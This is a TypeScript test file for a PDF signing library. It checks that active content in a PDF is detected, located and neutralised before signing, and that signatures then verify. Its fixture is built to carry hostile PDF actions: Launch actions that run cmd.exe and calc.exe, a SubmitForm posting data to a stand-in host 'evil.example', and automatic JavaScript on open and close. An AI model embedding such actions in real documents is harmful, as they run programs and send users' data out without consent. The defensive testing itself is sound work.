import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { activeContentKinds, inspectPdf, preparePdf, signPdf, verifyPdf } from '../src/index.ts';
import { scanActiveContent } from '../src/pdf/active-content.ts';
import { PdfReader } from '../src/pdf/reader.ts';
import { firstExtra, rawPdf } from './support/pages.ts';
import { createTestPki, type TestPki } from './support/pki.ts';
import { removeScratch } from './support/scratch.ts';
import { pdfsig, qpdfCheck } from './support/validators.ts';

let pki: TestPki;
afterAll(removeScratch);
beforeAll(async () => {
  pki = await createTestPki();
}, 30_000);

/** One PDF with every kind of active content the engine knows, each in its own place. */
function activePdf(): Buffer {
  const o = firstExtra(1); // first extra object number
  const js = (code: string) => `<</Type /Action /S /JavaScript /JS (${code})>>`;
  const link = (action: string, y: number) => `<</Type /Annot /Subtype /Link /Rect [50 ${y} 150 ${y + 20}] /Border [0 0 0] /A ${action}>>`;
  const objects = [
    /* o+0 */ `<</Type /Action /S /JavaScript /JS (app.alert\\('open'\\)) /Next ${o + 1} 0 R>>`,
    /* o+1 */ '<</Type /Action /S /Launch /F (calc.exe)>>',
    /* o+2 */ `<</Names [(init) ${o + 3} 0 R]>>`,
    /* o+3 */ js('this.print()'),
    /* o+4 */ link('<</S /Launch /F (cmd.exe)>>', 700),
    /* o+5 */ link('<</S /SubmitForm /F <</FS /URL /F (https://evil.example/collect)>>>>', 670),
    /* o+6 */ link('<</S /ImportData /F (data.fdf)>>', 640),
    /* o+7 */ link('<</S /URI /URI (https://example.com/cgv)>>', 610),
    /* o+8 */ link('<</S /GoToR /F (annexe.pdf) /D [0 /Fit]>>', 580),
    /* o+9 */ `<</Type /Annot /Subtype /Widget /Rect [200 700 300 720] /P 3 0 R /Parent ${o + 10} 0 R /AA <</K ${js('AFNumber_Keystroke()')}>>>>`,
    /* o+10 */ `<</FT /Tx /T (montant) /Kids [${o + 9} 0 R] /AA <</C ${js('calculate()')}>>>>`,
    /* o+11 */ `<</Type /Outlines /First ${o + 12} 0 R /Last ${o + 12} 0 R /Count 1>>`,
    /* o+12 */ `<</Title (Start) /Parent ${o + 11} 0 R /A ${js('bookmark()')}>>`,
    /* o+13 */ '<</Type /Annot /Subtype /FileAttachment /Rect [50 500 70 520] /FS <</Type /Filespec /F (a.txt)>>>>',
    /* o+14 */ link('<</S /RichMediaExecute /TA 1 0 R /CMD <</C (play)>>>>', 550),
    /* o+15 */ link(`<</S /Rendition /OP 0 /JS (media())>>`, 520),
    /* o+16 */ '<</Length 5>>\nstream\n<xdp>\nendstream',
  ];
  const annots = [4, 5, 6, 7, 8, 9, 13, 14, 15].map((i) => `${o + i} 0 R`).join(' ');
  return rawPdf({
    pages: [{ content: 'BT ET' }],
    catalogExtra:
      `/OpenAction ${o} 0 R /AA <</WC ${js('closing()')}>> /Names <</JavaScript ${o + 2} 0 R /EmbeddedFiles <</Names []>>>> ` +
      `/Outlines ${o + 11} 0 R /AcroForm <</Fields [${o + 10} 0 R] /XFA ${o + 16} 0 R>>`,
    pageExtra: () => `/AA <</O ${js('pageOpen()')}>> /Annots [${annots}]`,
    objects,
  });
}

describe('active content', () => {
  it('inspectPdf lists every kind, with where it is', async () => {
    const pdf = activePdf();
    expect(qpdfCheck(pdf).status, 'the fixture is well formed').toBe(0);
    const result = await inspectPdf(pdf);
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.activeContent).toEqual([...activeContentKinds].filter((k) => k !== 'GoToE').sort());
    const where = result.activeContentItems.map((i) => `${i.kind} @ ${i.location}`);
    expect(where).toEqual(
      expect.arrayContaining([
        'JavaScript @ catalog /OpenAction',
        'Launch @ catalog /OpenAction',
        'JavaScript @ catalog /AA /WC',
        'JavaScript @ document JavaScript (/Names /JavaScript)',
        'EmbeddedFile @ document attachments (/Names /EmbeddedFiles)',
        'XFA @ AcroForm /XFA',
        'JavaScript @ page 1 /AA /O',
        'Launch @ page 1 annotation 1 /A',
        'SubmitForm @ page 1 annotation 2 /A',
        'ImportData @ page 1 annotation 3 /A',
        'URI @ page 1 annotation 4 /A',
        'GoToR @ page 1 annotation 5 /A',
        'JavaScript @ page 1 annotation 6 /AA /K',
        'EmbeddedFile @ page 1 annotation 7 (file attachment)',
        'RichMediaExecute @ page 1 annotation 8 /A',
        'JavaScript @ page 1 annotation 9 /A',
        `JavaScript @ form field ${firstExtra(1) + 10} /AA /C`,
        `JavaScript @ outline item ${firstExtra(1) + 12} /A`,
      ]),
    );
  });

  it('preparePdf neutralises scripts and commands in the prepared file; links and attachments stay; signatures stay valid', async () => {
    const pdf = activePdf();
    const prepared = await preparePdf(pdf, { fields: [{ signerIndex: 0, x: 300, y: 100, width: 200, height: 60 }] });
    const removedKinds = new Set(prepared.activeContentRemoved.map((i) => i.kind));
    expect([...removedKinds].sort()).toEqual(['ImportData', 'JavaScript', 'Launch', 'RichMediaExecute', 'SubmitForm', 'XFA']);
    expect(new Set(prepared.activeContentKept.map((i) => i.kind))).toEqual(new Set(['URI', 'GoToR', 'EmbeddedFile']));
    // Re-read the prepared file: nothing of the removed kinds is reachable any more.
    const after = scanActiveContent(PdfReader.open(prepared.pdf));
    expect(after.found.filter((i) => removedKinds.has(i.kind))).toEqual([]);
    expect(after.found.length).toBe(prepared.activeContentKept.length);
    const reader = PdfReader.open(prepared.pdf);
    const catalog = reader.catalog();
    expect(catalog.has('OpenAction') || catalog.has('AA')).toBe(false);
    expect(reader.resolveDict(catalog.get('Names'))!.has('JavaScript')).toBe(false);
    expect(reader.resolveDict(catalog.get('AcroForm'))!.has('XFA')).toBe(false);
    expect(qpdfCheck(prepared.pdf).status).toBe(0);
    const inspected = await inspectPdf(prepared.pdf);
    expect(inspected.ok && inspected.activeContent).toEqual(['EmbeddedFile', 'GoToR', 'URI']);

    const signed = await signPdf(prepared.pdf, { field: 'signer-1', signer: pki.signer, level: 'B-T', tsa: pki.tsa, certify: true });
    const [sig] = pdfsig(signed, pki);
    expect(sig!.valid && sig!.trusted && sig!.total, sig!.lines.join(' | ')).toBe(true);
    const report = await verifyPdf(signed, { trustedRoots: [pki.ca.rootCertificate], revocation: pki.ca.revocationSource() });
    expect(report.indication).toBe('TOTAL_PASSED');
  });

  it('can be told to keep active content, and never touches an already signed file', async () => {
    const kept = await preparePdf(activePdf(), { fields: [], neutraliseActiveContent: false });
    expect(kept.activeContentRemoved).toEqual([]);
    expect(scanActiveContent(PdfReader.open(kept.pdf)).found.some((i) => i.kind === 'JavaScript')).toBe(true);
    const first = await preparePdf(activePdf(), { fields: [{ signerIndex: 0 }], neutraliseActiveContent: false });
    const signed = await signPdf(first.pdf, { field: 'signer-1', signer: pki.signer, level: 'B-B' });
    const again = await preparePdf(signed, { fields: [{ signerIndex: 1 }] });
    expect(again.activeContentRemoved).toEqual([]);
    expect(again.warnings.join()).toMatch(/already signed/);
    const report = await verifyPdf(again.pdf, { trustedRoots: [pki.ca.rootCertificate], revocation: pki.ca.revocationSource() });
    expect(report.signatures[0]!.modifiedAfterSigning).toBe(false);
  });
});
